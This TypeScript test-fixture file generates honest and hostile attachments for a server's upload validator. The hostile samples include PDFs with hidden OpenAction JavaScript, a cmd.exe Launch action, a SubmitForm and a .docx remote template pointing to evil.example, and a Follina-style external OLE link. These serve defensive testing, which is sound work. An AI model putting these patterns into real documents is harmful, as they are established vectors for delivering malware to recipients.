/**
 * The attachment corpus (issue #50): honest files as buyers' programs write them and hostile ones as an
 * attacker writes them, each generated here (nothing binary is committed) with the verdict the server must
 * give. An honest file refused is as much a failure as a hostile one accepted. The reliability suite sends
 * every one to the production server (test/reliability/hostile-documents.ts).
 */
import { execFileSync } from "child_process"
import fs from "fs"
import os from "os"
import path from "path"
import PDFDocument from "pdfkit"
import sharp from "sharp"
import type { AttachmentProblem } from "../src/lib/leads/attachment"
import { phonePhoto, scannedPage } from "./generated-photo"
import { buildPdf, PAGE_OBJECTS, pdfWithHiddenObject, stream } from "./pdf-files"
import { chartParts, DOCX_PARTS, makeZip, XLSX_BYTES, XLSX_PARTS } from "./zip"

export interface CorpusFile {
  /** What the file is, as the report names it. */
  title: string
  filename: string
  type: string
  content: Buffer
  /** 201 for an honest file; the refusal's code for a hostile one. */
  verdict: "accepted" | AttachmentProblem
}

const PDF = "application/pdf"
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
const FONT = path.join(
  __dirname,
  "..",
  "node_modules",
  "@expo-google-fonts",
  "inter",
  "400Regular",
  "Inter_400Regular.ttf",
)

function pdfkit(options: PDFKit.PDFDocumentOptions, draw: (document: PDFKit.PDFDocument) => void): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument(options)
    const chunks: Buffer[] = []
    document.on("data", (chunk: Buffer) => chunks.push(chunk))
    document.on("end", () => resolve(Buffer.concat(chunks)))
    draw(document)
    document.end()
  })
}

/** The file as Cairo writes it (poppler's pdftocairo): the PDF writer of GTK's "print to file" and of CUPS filters. */
function throughCairo(pdf: Buffer): Buffer | null {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), "vigia-corpus-"))
  try {
    fs.writeFileSync(path.join(folder, "in.pdf"), pdf)
    execFileSync("pdftocairo", ["-pdf", path.join(folder, "in.pdf"), path.join(folder, "out.pdf")], { stdio: "ignore" })
    return fs.readFileSync(path.join(folder, "out.pdf"))
  } catch {
    return null
  } finally {
    fs.rmSync(folder, { recursive: true, force: true })
  }
}

const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
const relationships = (entries: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries}</Relationships>`
const MZ = Buffer.from("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.", "latin1")
const [CATALOG, ...REST] = PAGE_OBJECTS
const withCatalog = (entries: string) => [CATALOG.replace(" >>", ` ${entries} >>`), ...REST]
const JS_CATALOG = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"

export async function attachmentCorpus(): Promise<CorpusFile[]> {
  const scan = await scannedPage()
  const invoice = await pdfkit({ size: "A4", margin: 0, info: { Title: "Factura escaneada" } }, (document) => {
    document.image(scan, 0, 0, { width: 595 })
  })
  const report = await pdfkit({ info: { Title: "Pliego técnico" } }, (document) => {
    document.fontSize(14).text("Pliego técnico: diez detectores de cuatro gases para la planta de Añelo.")
    document.text("Ver especificaciones", { link: "https://vigia.com.ar/productos", underline: true })
  })
  const pdfA = await pdfkit(
    {
      subset: "PDF/A-2b",
      pdfVersion: "1.7",
      tagged: true,
      lang: "es-AR",
      info: { Title: "Remito PDF/A" },
    } as PDFKit.PDFDocumentOptions,
    (document) => {
      document.font(FONT).fontSize(12).text("Remito 0001-00004567: cinco máscaras de media cara, talle M.")
    },
  )
  const cairo = throughCairo(invoice)
  const photo = await phonePhoto()
  const screenshot = await sharp({ create: { width: 800, height: 600, channels: 4, background: "#f4f6f7" } })
    .png()
    .toBuffer()
  const withHyperlink = {
    ...DOCX_PARTS,
    ...chartParts(),
    "word/_rels/document.xml.rels": relationships(
      `<Relationship Id="rId5" Type="${R}/chart" Target="charts/chart1.xml"/>` +
        `<Relationship Id="rId8" Type="${R}/hyperlink" Target="https://vigia.com.ar/" TargetMode="External"/>`,
    ),
  }

  const honest: CorpusFile[] = [
    {
      title: "a pdfkit report with a link",
      filename: "Pliego técnico.pdf",
      type: PDF,
      content: report,
      verdict: "accepted",
    },
    {
      title: "a scanned invoice (pdfkit, a page-size JPEG)",
      filename: "factura escaneada.pdf",
      type: PDF,
      content: invoice,
      verdict: "accepted",
    },
    {
      title: "a PDF/A-2b with an embedded font (pdfkit)",
      filename: "remito PDF-A.pdf",
      type: PDF,
      content: pdfA,
      verdict: "accepted",
    },
    ...(cairo
      ? [
          {
            title: "the scan printed to PDF by Cairo (GTK, CUPS)",
            filename: "impresion.pdf",
            type: PDF,
            content: cairo,
            verdict: "accepted" as const,
          },
        ]
      : []),
    {
      title: "a phone photo with a trailer after its image",
      filename: "IMG_20261125_101500.jpg",
      type: "image/jpeg",
      content: Buffer.concat([photo, Buffer.from("MotionPhoto_Data"), Buffer.alloc(2048, 7)]),
      verdict: "accepted",
    },
    { title: "a PNG screenshot", filename: "captura.png", type: "image/png", content: screenshot, verdict: "accepted" },
    {
      title: "a Word file with a chart, its workbook and a hyperlink",
      filename: "informe.docx",
      type: DOCX,
      content: makeZip(withHyperlink),
      verdict: "accepted",
    },
    { title: "an Excel workbook", filename: "planilla.xlsx", type: XLSX, content: XLSX_BYTES, verdict: "accepted" },
  ]

  const hostile: CorpusFile[] = [
    ...(["comment", "stream"] as const).flatMap((where) =>
      [false, true].map((xrefStream) => ({
        title: `/OpenAction JavaScript hidden in a ${where}, reached through the ${xrefStream ? "cross-reference stream" : "xref table"}`,
        filename: `orden-${where}.pdf`,
        type: PDF,
        content: pdfWithHiddenObject(
          [JS_CATALOG, ...REST],
          { number: 1, object: JS_CATALOG, in: where },
          { xrefStream },
        ),
        verdict: "attachmentUnsafe" as const,
      })),
    ),
    {
      title: "an XFA form with a <script>",
      filename: "formulario.pdf",
      type: PDF,
      content: buildPdf([
        ...withCatalog("/AcroForm << /Fields [] /XFA 6 0 R >>"),
        stream(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>',
        ),
      ]),
      verdict: "attachmentUnsafe",
    },
    ...[
      ["a Launch action", "/OpenAction << /S /Launch /F (cmd.exe) >>"],
      ["an ImportData action", "/OpenAction << /S /ImportData /F (datos.fdf) >>"],
      ["a SubmitForm action to a URL", "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"],
      ["an embedded file", "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>"],
    ].map(([title, entries]) => ({
      title: `a PDF with ${title}`,
      filename: "documento.pdf",
      type: PDF,
      content: buildPdf(withCatalog(entries)),
      verdict: "attachmentUnsafe" as const,
    })),
    {
      title: "a .docx with a remote template (attachedTemplate, External)",
      filename: "oferta.docx",
      type: DOCX,
      content: makeZip({
        ...DOCX_PARTS,
        "word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        "word/_rels/settings.xml.rels": relationships(
          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://evil.example/plantilla.dotm" TargetMode="External"/>`,
        ),
      }),
      verdict: "attachmentUnsafe",
    },
    {
      title: "a .docx with an external OLE object link (the pattern of CVE-2022-30190)",
      filename: "pedido.docx",
      type: DOCX,
      content: makeZip({
        ...DOCX_PARTS,
        "word/_rels/document.xml.rels": relationships(
          `<Relationship Id="rId9" Type="${R}/oleObject" Target="http://evil.example/x.html!" TargetMode="External"/>`,
        ),
      }),
      verdict: "attachmentUnsafe",
    },
    {
      title: "a .docx embedding a package that carries a macro and an .exe",
      filename: "anexo.docx",
      type: DOCX,
      content: makeZip({
        ...DOCX_PARTS,
        ...chartParts(makeZip({ ...XLSX_PARTS, "xl/vbaProject.bin": "macro", "xl/media/calc.exe": MZ })),
      }),
      verdict: "attachmentUnsafe",
    },
  ]
  return [...honest, ...hostile]
}
